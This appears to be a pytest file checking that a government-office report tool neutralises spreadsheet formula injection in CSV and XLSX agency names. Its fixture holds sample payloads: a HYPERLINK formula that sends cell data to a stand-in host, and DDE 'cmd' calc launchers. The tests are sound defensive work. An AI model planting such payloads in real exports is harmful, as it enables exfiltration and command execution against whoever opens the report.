"""Reports open in a spreadsheet as words: a cell that would start a formula is made inert.

Agency names come from the directory (a file, a console form); one that begins with "=",
"+", "-", "@", a tab or a carriage return would be evaluated by Excel or LibreOffice when
the office opens the report. OWASP's rule: such a cell starts with a single quote.
"""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from dondoc.settings import Settings
from dondoc.store.reports import AgencyLine, PeriodReport, to_csv, to_xlsx
from support.seeded import (
    DONDOC,
    directory_document,
    environment_of,
    into_read_model,
    notice_document,
    seeded_settings,
)

HOSTILE = {
    "SNGV": '=HYPERLINK("http://ke-gian.test/?d="&A1,"Bấm vào đây")',
    "STC": "+84 Sở Tài chính",
    "SCT": "-2+3+cmd|' /C calc'!A0",
    "SXD": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DAY = date(2026, 10, 5)


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    directory = directory_document(
        [
            {"code": code, "name": name, "email": f"{code.lower()}@ubnd.test"}
            for code, name in HOSTILE.items()
        ]
    )
    settings = seeded_settings(
        tmp_path_factory.mktemp("reports"), yaml.safe_dump(directory, allow_unicode=True)
    )
    for index, code in enumerate(HOSTILE, start=1):
        document = notice_document(f"{700 + index}/TB-UBND", DAY, owner=code)
        document["tasks"][0]["coordinators"] = []
        into_read_model(settings, document)
    return settings


def report_file(settings: Settings, folder: Path, fmt: str) -> Path:
    """The report as ``dondoc report`` writes it."""
    out = folder / f"bao-cao.{fmt}"
    period = ["--from", "2026-10-01", "--to", "2026-10-31"]
    done = subprocess.run(
        [DONDOC, "report", *period, "--out", str(out), "--format", fmt],
        env=environment_of(settings),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return out


def test_the_csv_report_shows_formula_like_names_as_text(
    settings: Settings, tmp_path: Path
) -> None:
    text = report_file(settings, tmp_path, "csv").read_text("utf-8-sig")
    names = {row[0]: row[1] for row in list(csv.reader(io.StringIO(text)))[1:] if row[0]}
    assert names == {code: "'" + name for code, name in HOSTILE.items()}


def test_the_xlsx_report_holds_formula_like_names_as_strings(
    settings: Settings, tmp_path: Path
) -> None:
    sheet = load_workbook(report_file(settings, tmp_path, "xlsx")).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    names = {
        sheet.cell(row=c.row, column=1).value: c.value
        for c in cells
        if c.column == 2 and sheet.cell(row=c.row, column=1).value in HOSTILE
    }
    assert names == {code: "'" + name for code, name in HOSTILE.items()}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised_in_both_formats(lead: str) -> None:
    name = f"{lead}1+1 Sở Ngoại vụ"
    line = AgencyLine(code=f"{lead}SNGV", name=name, assigned=1, in_progress_on_time=1)
    total = AgencyLine(code="", name="Tổng cộng", assigned=1, in_progress_on_time=1)
    report = PeriodReport(
        start=DAY, end=DAY, generated_at=datetime.now(UTC), leader=None, lines=[line], total=total
    )

    rows = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"), newline="")))
    assert rows[1][:3] == [f"'{lead}SNGV", f"'{name}", "1"]

    sheet = load_workbook(io.BytesIO(to_xlsx(report))).active
    assert sheet is not None
    first = next(r for r in sheet.iter_rows() if r[0].value == f"'{lead}SNGV")
    assert (first[1].value, first[1].data_type) == (f"'{name}", "s")
    assert (first[2].value, first[2].data_type) == (1, "n")  # numbers stay numbers
